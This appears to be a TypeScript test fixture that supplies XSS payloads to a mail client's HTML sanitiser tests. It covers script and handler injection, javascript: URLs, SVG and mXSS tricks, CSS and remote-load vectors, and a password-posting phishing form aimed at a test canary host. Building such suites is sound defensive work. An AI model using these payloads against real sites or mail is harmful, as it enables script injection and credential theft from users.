// The XSS suite (issue 7 "Bad input"): shared by the sanitiser's unit tests and e2e/xss.spec.ts.
// Every remote reference points at the canary host, so "zero requests to the canary" proves nothing loaded.
export const CANARY = 'canary.mailroom.test';
const C = `http://${CANARY}`;

export type XssPayload = { name: string; category: string; html: string };

const raw: Array<[string, string, string]> = [
  // script and event handlers
  ['script tag', 'script', `<script>window.__xss=1;alert(1)</script>hello`],
  ['script src', 'script', `<script src="${C}/x.js"></script>`],
  ['uppercase script', 'script', `<SCRIPT>alert(1)</SCRIPT>`],
  ['split script', 'script', `<scr<script>ipt>alert(1)</scr</script>ipt>`],
  ['img onerror', 'handler', `<img src=x onerror="alert(1)">`],
  ['body onload', 'handler', `<body onload=alert(1)>text</body>`],
  ['svg onload', 'handler', `<svg onload=alert(1)>`],
  ['details ontoggle', 'handler', `<details open ontoggle=alert(1)><summary>x</summary></details>`],
  ['div onmouseover', 'handler', `<div onmouseover="alert(1)" style="width:100%;height:100%">hover</div>`],
  ['handler with slash', 'handler', `<img/src=x/onerror=alert(1)>`],
  ['handler newline', 'handler', `<img src=x\nonerror=alert(1)>`],
  ['marquee onstart', 'handler', `<marquee onstart=alert(1)>x</marquee>`],
  ['input autofocus onfocus', 'handler', `<input autofocus onfocus=alert(1)>`],
  ['video source onerror', 'handler', `<video><source onerror=alert(1)></video>`],
  ['audio src onerror', 'handler', `<audio src=x onerror=alert(1)>`],
  // javascript: and data: URLs
  ['a javascript', 'url', `<a href="javascript:alert(1)">click</a>`],
  ['a javascript entity', 'url', `<a href="&#106;avascript:alert(1)">click</a>`],
  ['a javascript hex entity', 'url', `<a href="&#x6A;&#x61;vascript:alert(1)">click</a>`],
  ['a javascript tab', 'url', `<a href="java\tscript:alert(1)">click</a>`],
  ['a javascript newline entity', 'url', `<a href="java&#10;script:alert(1)">click</a>`],
  ['a javascript leading space', 'url', `<a href=" \u0001javascript:alert(1)">click</a>`],
  ['a javascript mixed case', 'url', `<a href="JaVaScRiPt:alert(1)">click</a>`],
  ['a vbscript', 'url', `<a href="vbscript:msgbox(1)">click</a>`],
  ['a data html', 'url', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`],
  ['img data svg', 'url', `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
  ['iframe javascript', 'url', `<iframe src="javascript:alert(1)"></iframe>`],
  ['iframe data', 'url', `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`],
  ['object data', 'url', `<object data="javascript:alert(1)"></object>`],
  ['embed src', 'url', `<embed src="${C}/x.swf">`],
  ['form action javascript', 'url', `<form action="javascript:alert(1)"><button>go</button></form>`],
  ['button formaction', 'url', `<button formaction="javascript:alert(1)">go</button>`],
  // SVG
  ['svg animate href', 'svg', `<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>`],
  ['svg set', 'svg', `<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`],
  ['svg use external', 'svg', `<svg><use href="${C}/sprite.svg#x"/></svg>`],
  ['svg use data', 'svg', `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`],
  ['svg foreignObject', 'svg', `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`],
  ['svg script', 'svg', `<svg><script>alert(1)</script></svg>`],
  ['svg image', 'svg', `<svg><image href="${C}/i.png"/></svg>`],
  // mXSS and namespace confusion
  ['mxss noscript', 'mxss', `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
  ['mxss svg style', 'mxss', `<svg><style><img src=x onerror=alert(1)></style></svg>`],
  ['mxss math mglyph', 'mxss', `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`],
  ['mxss math style', 'mxss', `<math><mi><style><img src=x onerror=alert(1)></style></mi></math>`],
  ['mxss form nesting', 'mxss', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`],
  ['mxss svg p', 'mxss', `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
  ['mxss comment', 'mxss', `<!--><img src=x onerror=alert(1)>-->`],
  ['mxss cdata', 'mxss', `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`],
  ['mxss backtick attr', 'mxss', '<img src="`<img src=x onerror=alert(1)>`">'],
  ['mxss template', 'mxss', `<template><img src=x onerror=alert(1)></template>`],
  // raw-text element tricks
  ['textarea breakout', 'rawtext', `<textarea></textarea><img src=x onerror=alert(1)></textarea>`],
  ['title breakout', 'rawtext', `<title></title><img src=x onerror=alert(1)></title>`],
  ['style breakout', 'rawtext', `<style></style><img src=x onerror=alert(1)></style>`],
  ['xmp breakout', 'rawtext', `<xmp></xmp><img src=x onerror=alert(1)></xmp>`],
  ['noembed breakout', 'rawtext', `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`],
  ['plaintext', 'rawtext', `<plaintext><img src=x onerror=alert(1)>`],
  ['iframe raw', 'rawtext', `<iframe><img src=x onerror=alert(1)></iframe>`],
  // CSS
  ['css url attribute', 'css', `<div style="background:url(${C}/bg.png)">x</div>`],
  ['css url escaped', 'css', `<div style="background:u\\72l(${C}/bg.png)">x</div>`],
  ['css url comment', 'css', `<div style="background:ur/**/l(${C}/bg.png)">x</div>`],
  ['css import', 'css', `<style>@import url(${C}/x.css); p{color:red}</style><p>x</p>`],
  ['css import string', 'css', `<style>@import '${C}/x.css';</style>`],
  ['css sheet url', 'css', `<style>body{background-image:url("${C}/bg.png")}</style>`],
  ['css font-face', 'css', `<style>@font-face{font-family:x;src:url(${C}/f.woff)}</style>`],
  ['css expression', 'css', `<div style="width:expression(alert(1))">x</div>`],
  ['css position fixed', 'css', `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999">overlay</div>`],
  ['css sheet fixed', 'css', `<style>.o{position:fixed;inset:0}</style><div class="o">overlay</div>`],
  ['css behavior', 'css', `<div style="behavior:url(${C}/x.htc)">x</div>`],
  ['css image-set', 'css', `<div style="background-image:image-set('${C}/a.png' 1x)">x</div>`],
  // forms and meta refresh
  ['meta refresh', 'form', `<meta http-equiv="refresh" content="0;url=${C}/">`],
  ['meta refresh javascript', 'form', `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`],
  ['base href', 'form', `<base href="${C}/"><a href="x">x</a>`],
  ['form phishing', 'form', `<form action="${C}/steal" method="post"><input name="password" type="password"><input type="submit"></form>`],
  ['link stylesheet', 'form', `<link rel="stylesheet" href="${C}/x.css">`],
  ['link prefetch', 'form', `<link rel="prefetch" href="${C}/p">`],
  // remote-load vectors
  ['img remote', 'remote', `<img src="${C}/pixel.gif" width="1" height="1">`],
  ['img protocol relative', 'remote', `<img src="//${CANARY}/pixel.gif">`],
  ['img srcset', 'remote', `<img srcset="${C}/a.png 1x, ${C}/b.png 2x">`],
  ['table background', 'remote', `<table background="${C}/bg.png"><tr><td background="${C}/td.png">x</td></tr></table>`],
  ['body background', 'remote', `<body background="${C}/bg.png">x</body>`],
  ['picture source', 'remote', `<picture><source srcset="${C}/a.webp"><img src="${C}/b.png"></picture>`],
  ['video poster', 'remote', `<video poster="${C}/poster.png"></video>`],
  ['input image', 'remote', `<input type="image" src="${C}/i.png">`],
  ['a ping', 'remote', `<a href="https://example.com/" ping="${C}/ping">x</a>`],
  ['object remote', 'remote', `<object data="${C}/o"></object>`],
  ['audio remote', 'remote', `<audio src="${C}/a.mp3" autoplay></audio>`],
  ['track remote', 'remote', `<video><track src="${C}/t.vtt"></video>`],
];

export const xssPayloads: XssPayload[] = raw.map(([name, category, html]) => ({ name, category, html }));

// Header-borne payloads: subjects, display names and filenames are always shown as text.
export const headerPayloads = {
  subject: `<img src=x onerror=alert(1)> Quote <script>alert(1)</script>`,
  subjectEncoded: '=?UTF-8?B?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==?=',
  fromName: `"><svg onload=alert(1)>`,
  filename: `<img src=x onerror=alert(1)>.pdf`,
  filenameEncoded: '=?UTF-8?Q?=3Cscript=3Ealert(1)=3C/script=3E.txt?=',
};

// A 10 MB body and a 10,000-deep body (issue 7): must sanitise and render quickly.
export function hugeBody(): string {
  const para = `<p>Lorem ipsum dolor sit amet, <b>consectetur</b> adipiscing elit <img src="${C}/h.png"> <a href="javascript:alert(1)">x</a></p>\n`;
  return para.repeat(Math.ceil((10 * 1024 * 1024) / para.length));
}

export function deepBody(depth = 10_000): string {
  return '<div>'.repeat(depth) + '<img src=x onerror=alert(1)>deep' + '</div>'.repeat(depth);
}
